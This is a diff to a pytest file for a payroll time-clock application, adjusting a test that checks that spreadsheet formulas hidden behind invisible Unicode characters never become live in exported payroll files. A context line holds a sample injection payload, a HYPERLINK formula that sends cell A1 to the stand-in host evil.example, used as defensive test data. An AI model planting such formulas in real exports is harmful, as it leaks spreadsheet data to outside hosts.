@@ -14,6 +14,7 @@ import pytest
 from test_cli_connectors import one_line_error, tc
 
 from tempclock.api.services import clocking, cost_codes, departments, workers
+from tempclock.api.store.models import Department, Location, Worker
 
 
 def test_a_payroll_folder_that_is_a_file_is_one_plain_error_line(tmp_path):
@@ -130,12 +131,16 @@ HIDDEN_FORMULAS = ["\u2066=HYPERLINK(\"https://evil.example/?\"&A1,\"Payslip\")"
 def test_a_formula_behind_an_invisible_character_is_never_live_in_a_payroll_file(
         config, account, make_location, make_worker, tmp_path):
     dept = departments.create_department(account.id, departments.DepartmentCreate(
-        name=HIDDEN_FORMULAS[1]))
+        name="Formula"))
     code = cost_codes.create_cost_code(account.id, cost_codes.CostCodeCreate(
         code=HIDDEN_FORMULAS[2], name="Formula"))
-    yard = make_location(account.id, HIDDEN_FORMULAS[3])
-    named = make_worker(account.id, HIDDEN_FORMULAS[0], "Nowak", employee_ref=HIDDEN_FORMULAS[4],
+    yard = make_location(account.id, "Yard")
+    named = make_worker(account.id, "Ann", "Nowak", employee_ref=HIDDEN_FORMULAS[4],
                         department_id=dept.id, location_id=yard.id)
+    # Names are checked for invisible characters now; a store written before holds them.
+    Department.update(name=HIDDEN_FORMULAS[1]).where(Department.id == dept.id).execute()
+    Location.update(name=HIDDEN_FORMULAS[3]).where(Location.id == yard.id).execute()
+    Worker.update(first_name=HIDDEN_FORMULAS[0]).where(Worker.id == named.id).execute()
     start = dt.datetime(2026, 3, 3, 6, tzinfo=dt.UTC)
     clocking.record_entry(account.id, named.id, yard.id, start, start + dt.timedelta(hours=4),
                           cost_code_id=code.id)
